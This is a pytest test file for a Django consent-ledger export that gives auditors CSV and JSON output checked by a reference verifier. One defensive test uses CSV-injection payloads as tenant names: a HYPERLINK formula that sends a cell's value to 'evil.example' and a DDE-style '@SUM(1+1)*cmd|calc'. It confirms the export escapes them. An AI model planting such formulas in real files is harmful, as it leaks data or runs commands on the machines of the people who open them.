"""One export for an auditor: every tenant with its answer, time, channel, answerer and hash,
as CSV (UTF-8 with a BOM) and as the JSON the ledger's reference verifier reads."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from django.urls import reverse

from agreements.catalog import catalog_ensure
from agreements.enums import CheckpointKind
from agreements.ledger.checkpoints import checkpoint_create
from agreements.ledger.keys import private_b64, public_b64
from agreements.models import ConsentRecord
from agreements.services.consents.answers import consent_answer
from core import clock
from core.models import AuditEntry
from tenants.scope import Scope
from tests.console.conftest import post_revision
from tests.factories.agreements import ContractFactory
from tests.factories.tenants import TenantFactory

pytestmark = [pytest.mark.integration, pytest.mark.django_db]

DOC = Path(__file__).resolve().parents[2] / "docs" / "ledger.md"


def _verifier() -> dict[str, Any]:
    block = re.search(
        r"<!-- reference-verifier:start -->\s*```python\n(.*?)```", DOC.read_text(), re.DOTALL
    )
    assert block is not None
    namespace: dict[str, Any] = {"__name__": "auditor_reference_verifier"}
    exec(compile(block.group(1), "docs/ledger.md", "exec"), namespace)  # noqa: S102 -- our own doc
    return namespace


@pytest.fixture
def key(settings, tmp_path) -> Ed25519PrivateKey:
    key = Ed25519PrivateKey.generate()
    settings.TERMS_CHECKPOINT_KEY = private_b64(key)
    settings.TERMS_CHECKPOINT_PUBLIC_KEYS = []
    settings.VAR_DIR = tmp_path
    return key


@pytest.fixture
def answered(world, editor, publisher, key):
    version = post_revision(
        document=world.document, editor=editor, publisher=publisher, today=clock.today()
    )
    consent_answer(scope=Scope.system(), tenant=world.tenant, version=version, answer="rejected")
    other = TenantFactory(name="株式会社監査")
    ContractFactory(tenant=other, product=catalog_ensure().biz)
    consent_answer(scope=Scope.system(), tenant=other, version=version, answer="accepted")
    silent = TenantFactory(name="株式会社未回答")
    ContractFactory(tenant=silent, product=catalog_ensure().biz)
    with clock.frozen_at(clock.now() + timedelta(hours=1)):
        checkpoint_create(kind=CheckpointKind.MANUAL)
    return version


def test_csv_lists_every_tenant_with_its_answer_and_hash(client, answered, viewer, world) -> None:
    client.force_login(viewer)  # read-only: a viewer may export
    response = client.get(reverse("console:version-export", args=[answered.pk]), {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    assert header[0] == "テナントID"
    by_name = {row[1]: row for row in body}
    assert set(by_name) >= {world.tenant.name, "株式会社監査", "株式会社未回答"}
    rejected = ConsentRecord.objects.get(tenant=world.tenant, version=answered)
    row = by_name[world.tenant.name]
    # Readable values for an auditor (labels, Japan time beside the ledger's UTC instant).
    assert row[4] == "拒否"
    assert row[5].endswith("Z")
    assert row[6].endswith("+09:00")
    assert row[7] == "システム"  # the channel's label (recorded here by the system scope)
    assert rejected.channel == "system"
    assert header[8:10] == ["回答者名", "役職"]
    assert row[11] == rejected.actor_ref
    assert row[13] == rejected.hash
    assert by_name["株式会社未回答"][4] == ""
    assert AuditEntry.objects.filter(action="export", object_id=answered.pk, actor=viewer).exists()


def test_csv_cells_a_customer_typed_are_never_formulas(client, answered, viewer) -> None:
    """Text customers and partners typed (a tenant's name here) that a spreadsheet would run
    as a formula (`=`, `+`, `-`, `@`, tab, CR) is written with a leading `'`: CSV injection."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"詳細")'
    names = [formula, "@SUM(1+1)*cmd|calc", "+1-2", "-3", "\tx", "株式会社=普通"]
    for name in names:
        ContractFactory(tenant=TenantFactory(name=name), product=catalog_ensure().biz)
    client.force_login(viewer)
    response = client.get(reverse("console:version-export", args=[answered.pk]), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    shown = {row[1] for row in rows[1:]}
    for name in names[:-1]:
        assert "'" + name in shown, name
        assert name not in shown, name
    assert "株式会社=普通" in shown  # only a cell's first character matters
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t") for row in rows for cell in row)
    drill = client.get(reverse("console:dashboard-drill", args=[answered.pk]), {"format": "csv"})
    assert drill.status_code == 200
    drill_rows = list(csv.reader(io.StringIO(drill.content.decode("utf-8-sig"))))
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t") for row in drill_rows for cell in row)


def test_json_is_checked_by_the_reference_verifier(client, answered, viewer, key) -> None:
    client.force_login(viewer)
    url = reverse("console:version-export", args=[answered.pk])
    document = json.loads(client.get(url, {"format": "json"}).content)
    lines = b"".join(client.get(url, {"format": "jsonl"}).streaming_content).decode().splitlines()
    verifier = _verifier()
    assert list(verifier["verify_lines"](lines)) == []
    public = public_b64(key.public_key())
    assert document["checkpoint"] is not None
    assert list(verifier["verify_checkpoint"](document["checkpoint"], public, lines)) == []
    # Each answer names a row of the verified chains.
    rows = {(r["tenant_id"], r["seq"]): r for r in map(json.loads, lines)}
    answers = [a for a in document["answers"] if a["hash"]]
    assert len(answers) == 2
    for answer in answers:
        row = rows[(answer["tenant_id"], answer["seq"])]
        assert (row["hash"], row["answer"], row["channel"], row["recorded_at"]) == (
            answer["hash"],
            answer["answer"],
            answer["channel"],
            answer["recorded_at"],
        )
    # A forged answer's hash is not in the chain.
    assert ("e" * 64) not in {r["hash"] for r in rows.values()}


def test_unknown_format_and_staff_without_a_role(client, answered, staff_without_group) -> None:
    client.force_login(staff_without_group)
    url = reverse("console:version-export", args=[answered.pk])
    assert client.get(url, {"format": "csv"}).status_code == 403


def test_unknown_format_is_404(client, answered, viewer) -> None:
    client.force_login(viewer)
    url = reverse("console:version-export", args=[answered.pk])
    assert client.get(url, {"format": "xml"}).status_code == 404
